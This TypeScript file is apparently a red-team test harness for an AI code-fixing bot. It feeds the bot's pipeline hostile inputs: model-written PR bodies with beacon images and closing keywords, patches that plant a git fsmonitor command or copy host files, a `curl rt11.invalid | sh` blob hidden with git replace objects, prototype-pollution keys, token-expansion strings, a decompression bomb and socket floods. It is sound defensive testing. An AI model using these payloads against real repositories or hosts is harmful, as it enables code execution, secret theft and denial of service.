/**
 * Host-side steps of the eleventh red team's cases, run in a process of their own
 * (`tsx redteam11-step.ts <dir> <id>…`) so a case that holds the host can be killed and measured.
 * Each case builds its hostile input under `<dir>/<id>` and calls the entry its pipeline uses on it: the draft PR
 * body with model-written prose, the policy gate and the one patch applier on model-written patches, the lockfile
 * and manifest checks on prototype-named entries, the runtime and Python readers on text naming host variables,
 * the fix pipeline's git steps on a checkout with replacement objects and a decompression-bomb blob, the install
 * proxy's socket under a connection flood and a slow drip, the log parser on prototype-named tests, the config
 * loader and the event parser on `__proto__` keys. For each case it prints one JSON line:
 * `{ id, cpuMs, outcome, contained }` — `contained` is the case's own verdict, null when only the runner's checks
 * (marker, token, host CPU) decide.
 */
import { execFileSync } from "node:child_process";
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import net from "node:net";
import path from "node:path";
import { deflateSync } from "node:zlib";
import { loadConfigFromString } from "../../../src/config/load.ts";
import { checkPythonDependencies } from "../../../src/fix/dependencies.ts";
import { applyPatchToWorkspace } from "../../../src/fix/apply-patch.ts";
import { detectToolchain } from "../../../src/fix/toolchain.ts";
import { createBranchWithCommit } from "../../../src/git/branch-commit.ts";
import { createFsWorkspace } from "../../../src/git/fs-workspace.ts";
import { safeGit } from "../../../src/git/run-git.ts";
import { checkNpmLockfile, checkPackageJson, REGISTRY_ONLY } from "../../../src/install/lockfile-policy.ts";
import { checkPnpmLockfile } from "../../../src/install/pnpm-lockfile.ts";
import { npmRegistryNodeSource } from "../../../src/install/node-runtime.ts";
import {
  readRepoFileSafely,
  readWorkflowsSafely,
  resolveRepoRuntime,
} from "../../../src/install/repo-runtime.ts";
import { parseEvent } from "../../../src/jobs/triggers.ts";
import { createLogParser } from "../../../src/logs/index.ts";
import { evaluatePatch } from "../../../src/policy/index.ts";
import { renderFixReport } from "../../../src/report/pr-body.ts";
import { DockerSandbox } from "../../../src/sandbox/docker.ts";
import { actsOnGitHub, fixedBody } from "./rendered-markdown.ts";
import { openFds, withProxy } from "./proxy-fixture.ts";
import { type Outcome, ok, runStepCases, writeTree } from "./wave-step.ts";

const [root, ...ids] = process.argv.slice(2) as [string, ...string[]];
let dir = root;
/** What a host file outside the checkout holds; it must never reach an output. */
const HOST_TEXT = "RT11-HOST-FILE root:$6$rt11hash$abcdef:19000:0:99999:7:::\nRT11-HOST-FILE second line\n";
const HOST_MARK = "RT11-HOST-FILE";
const TOKEN = process.env.GITHUB_TOKEN ?? "";
const REGISTRY = "https://registry.npmjs.org/";

const short = (s: string, n = 200) => s.replace(/\s+/g, " ").slice(0, n);

function git(cwd: string, ...args: string[]): string {
  return execFileSync(
    "git",
    ["-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main", ...args],
    { cwd, encoding: "utf8", stdio: ["ignore", "pipe", "ignore"], maxBuffer: 1 << 28 },
  );
}

function hostFile(): string {
  const p = path.join(dir, "host", "secret.txt");
  mkdirSync(path.dirname(p), { recursive: true });
  writeFileSync(p, HOST_TEXT, { mode: 0o600 });
  return p;
}

const repoWith = (files: Record<string, string>): string => writeTree(path.join(dir, "repo"), files);

// ---- Model-written prose in the draft PR body (a model steered by a hostile report or log writes anything).

const HOSTILE_PROSE =
  'The fix guards the null case. Fixes #1, closes #2 and resolves rt11-org/other-repo#3. cc @rt11-org/security-team @octocat ![ok](http://127.0.0.1:9/beacon.png) <img src="http://127.0.0.1:9/b2.png">';

function prBodyCase(body: string): Outcome {
  const found = actsOnGitHub(body);
  return ok(`acts on GitHub outside code: ${JSON.stringify(found)}`, found.length === 0);
}

// ---- Model-written patches: the gate, then the one applier on a real checkout.

async function patchCase(
  patch: string,
  files: Record<string, string> = { "src/a.js": "a\n" },
): Promise<Outcome> {
  const host = hostFile();
  const repo = repoWith(files);
  const text = patch
    .replaceAll("HOSTFILE", host)
    .replaceAll("MARKER", process.env.RETRACE_RT11_MARKER ?? "/var/tmp/rt11-marker");
  let gate: string;
  let allowed = false;
  try {
    const g = evaluatePatch(text, {});
    allowed = g.allowed;
    gate = g.allowed ? "gate allowed" : `gate refused: ${g.violations.map((v) => v.rule).join(",")}`;
  } catch (e) {
    gate = `gate threw: ${short((e as Error).message, 100)}`;
  }
  let applied: string;
  let safe = true;
  try {
    const ws = await createFsWorkspace(repo);
    const p = await applyPatchToWorkspace(ws, text);
    const dump = JSON.stringify(p);
    const paths = p.changed ?? [];
    safe = !dump.includes(HOST_MARK) && !paths.some((x: string) => /(^|\/)\.git(\/|$)/i.test(x));
    applied = `applied: ${short(dump, 160)}`;
  } catch (e) {
    applied = `applier refused: ${short((e as Error).message, 120)}`;
  }
  return ok(`${gate}; ${applied}`, !allowed || safe);
}

// ---- Lockfiles and manifests with prototype-named entries.

function problems(list: { entry: string; reason: string }[]): string {
  return list.length === 0
    ? "no problem found"
    : `refused: ${short(list.map((p) => `${p.entry}: ${p.reason}`).join("; "), 200)}`;
}

// ---- Text naming host variables: does any reader expand it?

function noToken(text: string, extra = ""): Outcome {
  const leaked = TOKEN !== "" && text.includes(TOKEN);
  return ok(`${extra}${short(text, 200)}; token in output: ${leaked}`, !leaked);
}

async function pythonDeps(files: Record<string, string>): Promise<Outcome> {
  const r = repoWith(files);
  const deps = await checkPythonDependencies(await createFsWorkspace(r), "pytest").then(
    (d) => JSON.stringify(d),
    (e: Error) => `threw ${e.message}`,
  );
  return noToken(deps);
}

async function runtimeError(repo: string): Promise<string> {
  const s = new DockerSandbox({});
  process.env.npm_config_registry = "http://127.0.0.1:9/";
  return resolveRepoRuntime({
    docker: s.docker,
    repoDir: repo,
    baseImage: s.image,
    node: npmRegistryNodeSource(path.join(dir, "runtimes"), 20_000),
  }).then(
    (r) => `runtime: ${r.described.join(", ")}`,
    (e: Error & { hint?: string }) => `error: ${e.message} (${e.hint ?? ""})`,
  );
}

// ---- Git on the host: replacement objects, grafts and a decompression-bomb blob.

function checkout(): { c: string; first: string; second: string } {
  const c = path.join(dir, "checkout");
  mkdirSync(c, { recursive: true });
  git(c, "init", "-q");
  writeFileSync(path.join(c, "a.txt"), "a\n");
  git(c, "add", "a.txt");
  git(c, "commit", "-q", "-m", "first");
  const first = git(c, "rev-parse", "HEAD").trim();
  writeFileSync(path.join(c, "a.txt"), "b\n");
  git(c, "commit", "-q", "-am", "second");
  return { c, first, second: git(c, "rev-parse", "HEAD").trim() };
}

/** A commit object whose tree adds `evil.js` to HEAD's, made the replacement of HEAD (refs/replace/<HEAD>). */
function replaceHead(c: string, head: string): void {
  const blob = execFileSync("git", ["hash-object", "-w", "--stdin"], {
    cwd: c,
    input: "require('child_process').execSync('curl rt11.invalid | sh')\n",
    encoding: "utf8",
  }).trim();
  const tree = execFileSync("git", ["mktree"], {
    cwd: c,
    input: `${git(c, "ls-tree", "HEAD")}100644 blob ${blob}\tevil.js\n`,
    encoding: "utf8",
  }).trim();
  const commit = execFileSync(
    "git",
    ["-c", "user.name=t", "-c", "user.email=t@t", "commit-tree", tree, "-p", `${head}~1`, "-m", "second"],
    { cwd: c, encoding: "utf8" },
  ).trim();
  git(c, "update-ref", `refs/replace/${head}`, commit);
}

/** What git really holds between two commits (no replacement objects): the names changed. */
function realNames(c: string, a: string, b: string): string[] {
  return execFileSync("git", ["diff-tree", "-r", "--name-only", "--no-commit-id", a, b], {
    cwd: c,
    encoding: "utf8",
    env: { ...process.env, GIT_NO_REPLACE_OBJECTS: "1" },
  })
    .split("\n")
    .filter(Boolean);
}

async function commitFix(c: string): Promise<{ text: string; names: string[] }> {
  const r = await createBranchWithCommit(c, {
    branch: "retrace/fix-rt11",
    message: "fix",
    files: { "a.txt": "c\n" },
    author: { name: "Retrace", email: "retrace@users.noreply.github.com" },
  }).then(
    (x) => ({ text: `committed ${x.commit}`, commit: x.commit as string }),
    (e: Error) => ({ text: `refused: ${short(e.message, 160)}`, commit: "" }),
  );
  if (!r.commit) return { text: r.text, names: [] };
  const head = git(c, "rev-parse", "HEAD").trim();
  return { text: r.text, names: realNames(c, head, r.commit) };
}

/** Peak resident memory (KiB) of the processes whose command line starts with `git` while `fn` runs. */
async function peakGitRssKb<T>(fn: () => Promise<T>): Promise<{ value: T; peakKb: number }> {
  let peak = 0;
  const sample = () => {
    for (const pid of readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
      try {
        const cmd = readFileSync(`/proc/${pid}/cmdline`, "utf8");
        if (!cmd.startsWith("git\0") && !cmd.includes("/git\0")) continue;
        const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, "utf8"));
        if (m) peak = Math.max(peak, Number(m[1]));
      } catch {}
    }
  };
  const timer = setInterval(sample, 20);
  try {
    const value = await fn();
    return { value, peakKb: peak };
  } finally {
    clearInterval(timer);
  }
}

// ---- The install proxy's socket: what a compromised npm in the install container can do to the host.

// ---- Logs: tests named like Object.prototype's members.

function parseLogNames(text: string): string {
  const parser = createLogParser();
  parser.write(text);
  const r = parser.end();
  return JSON.stringify({ failures: r.failures, stopped: r.stopped ?? null });
}

function protoUntouched(): boolean {
  const probe = {} as Record<string, unknown>;
  return probe.rt11Polluted === undefined && probe.allowGit === undefined && probe.install === undefined;
}

const cases: Record<string, () => Promise<Outcome> | Outcome> = {
  // ---- Model-written prose in the draft pull request.
  "prbody-summary-closing-keywords-mentions": () => prBodyCase(fixedBody({ summary: HOSTILE_PROSE })),
  "prbody-summary-html-comment-hides-verification": () =>
    prBodyCase(
      fixedBody({ summary: "Adds the check.\n\n<!-- everything after this is hidden from the reviewer" }),
    ),
  "prbody-rootcause-image-and-mention": () =>
    prBodyCase(
      fixedBody({ hypothesis: HOSTILE_PROSE, evidence: "see ![x](http://127.0.0.1:9/e.png) @octocat" }),
    ),
  "prbody-no-fix-attempt-summary": () =>
    prBodyCase(
      renderFixReport({
        result: {
          outcome: "NOT_FIXED",
          reason: "no attempt passed",
          failingTests: ["t"],
          testCommand: "pytest",
          attempts: 1,
          tokens: 1,
          costUsd: 0,
          durationMs: 1,
          attemptLog: [
            {
              n: 1,
              model: "m",
              verdict: "failed",
              reason: `tests still fail @octocat closes #4`,
              tokens: 1,
              costUsd: 0,
              summary: HOSTILE_PROSE,
              patch: "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
              violations: [],
            },
          ],
          flaky: null,
        } as never,
        excerpt: "E",
      }),
    ),
  // ---- Model-written patches.
  "patch-quoted-octal-dotgit-config": () =>
    patchCase(
      'diff --git "a/.gi\\164/config" "b/.gi\\164/config"\nnew file mode 100644\n--- /dev/null\n+++ "b/.gi\\164/config"\n@@ -0,0 +1,2 @@\n+[core]\n+\tfsmonitor = "touch MARKER"\n',
    ),
  "patch-rename-from-host-file": () =>
    patchCase(
      "diff --git a/../../host/secret.txt b/leak.txt\nsimilarity index 100%\nrename from ../host/secret.txt\nrename to leak.txt\n",
    ),
  "patch-copy-from-absolute-host-file": () =>
    patchCase(
      "diff --git a/HOSTFILE b/leak.txt\nsimilarity index 100%\ncopy from HOSTFILE\ncopy to leak.txt\n",
    ),
  "patch-new-symlink-to-host-file": () =>
    patchCase(
      "diff --git a/src/cfg.json b/src/cfg.json\nnew file mode 120000\n--- /dev/null\n+++ b/src/cfg.json\n@@ -0,0 +1 @@\n+HOSTFILE\n\\ No newline at end of file\n",
    ),
  "patch-binary-literal-bomb": () => {
    // A literal of 4 GiB declared, whose deflate stream is a real bomb (64 MiB of zeros).
    const z = deflateSync(Buffer.alloc(64 * 1024 * 1024));
    const b85 = base85Lines(z);
    return patchCase(
      `diff --git a/src/blob.bin b/src/blob.bin\nnew file mode 100644\nindex 0000000..1111111\nGIT binary patch\nliteral 4294967295\n${b85}\n\nliteral 0\nHcmV?d00001\n\n`,
    );
  },
  "patch-hunk-counts-overflow": () =>
    patchCase(
      "diff --git a/src/a.js b/src/a.js\n--- a/src/a.js\n+++ b/src/a.js\n@@ -1,9007199254740993 +1,9007199254740993 @@\n-a\n+b\n",
    ),
  // ---- Lockfiles and manifests with prototype-named entries.
  "lock-package-json-proto-git-dependency": () =>
    ok(
      problems(
        checkPackageJson(
          JSON.parse(
            '{"name":"x","dependencies":{"__proto__":"git+https://127.0.0.1:9/o/r.git"},"optionalDependencies":{"constructor":"file:../../host"}}',
          ),
          REGISTRY,
          REGISTRY_ONLY,
        ),
      ),
    ),
  "lock-npm-lockfile-proto-entry": () => {
    const lock = JSON.parse(
      `{"name":"x","lockfileVersion":3,"packages":{"":{"name":"x","dependencies":{"__proto__":"1.0.0"}},"node_modules/__proto__":{"version":"1.0.0","resolved":"git+ssh://git@127.0.0.1/o/r.git#abc"},"node_modules/constructor":{"version":"1.0.0","resolved":"http://127.0.0.1:9/x.tgz"},"__proto__":{"resolved":"file:/etc"}}}`,
    );
    const p = checkNpmLockfile(lock, REGISTRY, REGISTRY_ONLY);
    const named = ["__proto__", "constructor"].filter((n) => p.some((x) => x.entry.includes(n)));
    return ok(`${problems(p)}; entries named: ${JSON.stringify(named)}`, named.length === 2);
  },
  "lock-npm-v1-proto-dependency": () => {
    const lock = JSON.parse(
      `{"name":"x","lockfileVersion":1,"dependencies":{"__proto__":{"version":"git+https://127.0.0.1:9/o/r.git#abc"},"hasOwnProperty":{"version":"file:../host"}}}`,
    );
    const p = checkNpmLockfile(lock, REGISTRY, REGISTRY_ONLY);
    const named = ["__proto__", "hasOwnProperty"].filter((n) => p.some((x) => x.entry.includes(n)));
    return ok(`${problems(p)}; entries named: ${JSON.stringify(named)}`, named.length === 2);
  },
  "lock-pnpm-proto-importer": () => {
    const lock = {
      lockfileVersion: "9.0",
      importers: JSON.parse(
        '{".":{"dependencies":{"__proto__":{"specifier":"git+https://127.0.0.1:9/o/r.git","version":"git+https://127.0.0.1:9/o/r.git#abc"}}}}',
      ),
    };
    const p = checkPnpmLockfile(lock, REGISTRY, REGISTRY_ONLY);
    return ok(problems(p), p.length > 0);
  },
  "lock-overrides-proto": () =>
    ok(
      problems(
        checkPackageJson(
          JSON.parse(
            '{"name":"x","dependencies":{"a":"1.0.0"},"overrides":{"__proto__":"git+https://127.0.0.1:9/o/r.git"},"resolutions":{"constructor":"file:/etc"}}',
          ),
          REGISTRY,
          REGISTRY_ONLY,
        ),
      ),
    ),
  // ---- Repository text naming host variables.
  "env-tox-substitutions": () =>
    pythonDeps({
      "tox.ini":
        "[testenv]\ndeps =\n  {env:GITHUB_TOKEN}\n  pkg=={env:GITHUB_TOKEN:1.0}\n  -r{env:HOME}/req.txt\n  pytest\n",
    }),
  "env-requirements-variables": () =>
    pythonDeps({
      "requirements.txt":
        "pkg==${GITHUB_TOKEN}\n--extra-index-url https://x:${GITHUB_TOKEN}@127.0.0.1:9/simple\nother @ https://127.0.0.1:9/${GITHUB_TOKEN}.whl\npytest\n",
    }),
  "env-workflow-expression-node-version": () => {
    const r = repoWith({
      ".github/workflows/ci.yml":
        "on: push\nenv:\n  NODE: ${{ secrets.GITHUB_TOKEN }}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-node@v4\n        with:\n          node-version: ${{ env.GITHUB_TOKEN }}\n      - uses: actions/setup-node@v4\n        with:\n          node-version: $GITHUB_TOKEN\n",
    });
    return noToken(
      JSON.stringify(detectToolchain((rel) => readRepoFileSafely(r, rel), readWorkflowsSafely(r))),
    );
  },
  "env-nvmrc-variables": async () => {
    const r = repoWith({ ".nvmrc": "${GITHUB_TOKEN}\n", ".python-version": "$GITHUB_TOKEN\n" });
    return noToken(await runtimeError(r));
  },
  // ---- Git: replacement objects and grafts change what the host's git reads; a blob that inflates to 1 GiB.
  "git-replace-head-tree-into-fix-commit": async () => {
    const { c, second } = checkout();
    replaceHead(c, second);
    const r = await commitFix(c);
    return ok(
      `${r.text}; the commit Retrace made changes (real objects): ${JSON.stringify(r.names)}`,
      !r.names.includes("evil.js"),
    );
  },
  "git-replace-failing-commit-diff": async () => {
    const { c, second } = checkout();
    replaceHead(c, second);
    const d = await safeGit(c)
      .raw(["diff", "--no-color", "--no-ext-diff", "--no-textconv", "HEAD~1", "HEAD"])
      .then(
        (x) => x,
        (e: Error) => `failed: ${e.message}`,
      );
    return ok(`diff Retrace read: ${short(d, 200)}`, !d.includes("evil.js"));
  },
  "git-grafts-failing-commit-parent": async () => {
    const { c, first, second } = checkout();
    // The failing commit's parent grafted onto nothing: its diff becomes the whole tree, and history is rewritten.
    writeFileSync(path.join(c, ".git", "info", "grafts"), `${second}\n${first}\n`);
    const d = await safeGit(c)
      .raw(["rev-list", "--count", "HEAD"])
      .then(
        (x) => x.trim(),
        (e: Error) => `failed: ${short(e.message, 120)}`,
      );
    return ok(`commits Retrace's git counts from HEAD: ${d} (really 2)`, d === "2" || d.startsWith("failed"));
  },
  "git-blob-inflates-1gib-diff": async () => {
    const { c } = checkout();
    // A 1 GiB blob of zeros is a ~1 MiB loose object; the failing commit adds it.
    execFileSync("sh", ["-c", "head -c 1073741824 /dev/zero > big.bin && git add big.bin && rm big.bin"], {
      cwd: c,
      env: { ...process.env, GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@t" },
    });
    git(c, "commit", "-q", "-m", "big");
    git(c, "checkout", "-q", "--", ".");
    const { value, peakKb } = await peakGitRssKb(() =>
      safeGit(c)
        .raw(["diff", "--no-color", "--no-ext-diff", "--no-textconv", "HEAD~1", "HEAD"])
        .then(
          (x) => `diff ${x.length} chars`,
          (e: Error) => `failed: ${short(e.message, 120)}`,
        ),
    );
    return ok(`${value}; peak git RSS ${Math.round(peakKb / 1024)} MiB`, peakKb < 512 * 1024);
  },
  // ---- The install proxy's socket.
  "proxy-connection-flood": () =>
    withProxy(async (socket) => {
      const before = openFds();
      const conns: net.Socket[] = [];
      for (let i = 0; i < 3_000; i++) {
        const s = net.connect(socket);
        s.on("error", () => {});
        conns.push(s);
      }
      await new Promise((r) => setTimeout(r, 2_000));
      const open = conns.filter((s) => !s.destroyed && s.readyState === "open").length;
      const grown = openFds() - before;
      for (const s of conns) s.destroy();
      // Each open connection holds a host fd in Retrace's process (and one on our side of the socket here).
      return ok(`${open} of 3000 idle connections held open by the proxy; fds grew by ${grown}`, open <= 512);
    }),
  "proxy-slow-header-drip": () =>
    withProxy(async (socket) => {
      const s = net.connect(socket);
      s.on("error", () => {});
      let closedAt = -1;
      const t0 = Date.now();
      s.on("close", () => {
        closedAt = Date.now() - t0;
      });
      await new Promise((r) => s.on("connect", r));
      s.write("GET / HTTP/1.1\r\n");
      // One header byte every 2 s (the idle limit is 5 s): a request that never ends.
      for (let i = 0; i < 12 && closedAt < 0; i++) {
        await new Promise((r) => setTimeout(r, 2_000));
        if (!s.destroyed) s.write("X");
      }
      const open = closedAt < 0;
      s.destroy();
      return ok(
        open
          ? "still open after 24 s of a one-byte-per-2-s header (idle limit 5 s)"
          : `closed after ${closedAt} ms`,
        !open,
      );
    }),
  // ---- Logs: tests named like Object.prototype's members.
  "log-jest-tests-named-like-prototype": () => {
    const text = ` FAIL  src/a.test.js\n  ● __proto__\n\n    expect(received).toBe(expected)\n\n  ● constructor\n\n    expect(received).toBe(expected)\n\n  ● hasOwnProperty\n\n    boom\n\nTests:       3 failed, 3 total\n`;
    const r = parseLogNames(text);
    const named = ["__proto__", "constructor", "hasOwnProperty"].filter((n) => r.includes(n));
    return ok(
      `names kept: ${JSON.stringify(named)}; ${short(r, 160)}`,
      named.length === 3 && protoUntouched(),
    );
  },
  "log-junit-prototype-attributes": () => {
    const text = `<?xml version="1.0"?>\n<testsuites><testsuite name="s" tests="2" failures="2"><testcase classname="pkg" __proto__="x" name="toString"><failure message="m">boom</failure></testcase><testcase classname="constructor" name="valueOf"><failure message="m">boom</failure></testcase></testsuite></testsuites>\n`;
    const r = parseLogNames(text);
    const named = ["toString", "valueOf"].filter((n) => r.includes(n));
    return ok(
      `names kept: ${JSON.stringify(named)}; ${short(r, 160)}`,
      named.length === 2 && protoUntouched(),
    );
  },
  // ---- The config loader and the event parser on `__proto__` keys.
  "config-yaml-proto-key": () => {
    let out: string;
    try {
      const c = loadConfigFromString("__proto__:\n  rt11Polluted: 1\n  install:\n    allowGit: true\n") as {
        install?: { allowGit?: boolean };
      };
      out = `read; install.allowGit ${c.install?.allowGit}`;
    } catch (e) {
      out = `refused: ${short((e as Error).message, 140)}`;
    }
    const clean = protoUntouched();
    return ok(`${out}; Object.prototype untouched: ${clean}`, clean && !out.includes("allowGit true"));
  },
  "config-yaml-constructor-prototype": () => {
    let out: string;
    try {
      loadConfigFromString(
        "constructor:\n  prototype:\n    rt11Polluted: 1\nfix:\n  __proto__:\n    rt11Polluted: 2\n",
      );
      out = "read";
    } catch (e) {
      out = `refused: ${short((e as Error).message, 140)}`;
    }
    const clean = protoUntouched();
    return ok(`${out}; Object.prototype untouched: ${clean}`, clean);
  },
  "event-issue-comment-proto-keys": () => {
    const payload = JSON.parse(
      `{"action":"created","__proto__":{"rt11Polluted":1},"repository":{"full_name":"rt11/repo","default_branch":"main","__proto__":{"private":false}},"installation":{"id":1},"sender":{"login":"dev","type":"User","__proto__":{"type":"Bot"}},"issue":{"number":3,"title":"t","body":"b","__proto__":{"pull_request":{}}},"comment":{"body":"/retrace repro","user":{"login":"dev","type":"User"},"__proto__":{"author_association":"OWNER"}}}`,
    );
    const d = parseEvent("issue_comment", payload, {
      kind: "app",
      identity: { appId: 4242, appSlug: "retrace" },
    });
    return ok(
      `decision ${short(JSON.stringify(d), 200)}; prototype untouched ${protoUntouched()}`,
      protoUntouched(),
    );
  },
  "event-dispatch-spec-proto-keys": () => {
    const spec = `{"id":"j1","kind":"fix","__proto__":{"rt11Polluted":1,"allowGit":true},"trigger":{"__proto__":{"repo":"other/repo"}}}`;
    const payload = { inputs: { "job-spec": spec }, repository: { full_name: "rt11/repo" } };
    let d: string;
    try {
      d = JSON.stringify(parseEvent("workflow_dispatch", payload, { kind: "action" }));
    } catch (e) {
      d = `threw: ${(e as Error).message}`;
    }
    return ok(
      `decision ${short(d, 200)}; prototype untouched ${protoUntouched()}`,
      protoUntouched() && !d.includes("other/repo"),
    );
  },
};

function base85Lines(data: Buffer): string {
  const A = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
  const lines: string[] = [];
  for (let off = 0; off < data.length; off += 52) {
    const chunk = data.subarray(off, off + 52);
    const n = chunk.length;
    const lenChar = n <= 26 ? String.fromCharCode(64 + n) : String.fromCharCode(96 + n - 26);
    let s = lenChar;
    const padded = Buffer.concat([chunk, Buffer.alloc((4 - (n % 4)) % 4)]);
    for (let i = 0; i < padded.length; i += 4) {
      let v = padded.readUInt32BE(i);
      const out: string[] = [];
      for (let k = 0; k < 5; k++) {
        out.unshift(A[v % 85]!);
        v = Math.floor(v / 85);
      }
      s += out.join("");
    }
    lines.push(s);
  }
  return lines.join("\n");
}

await runStepCases(cases, root, ids, (d) => {
  dir = d;
});
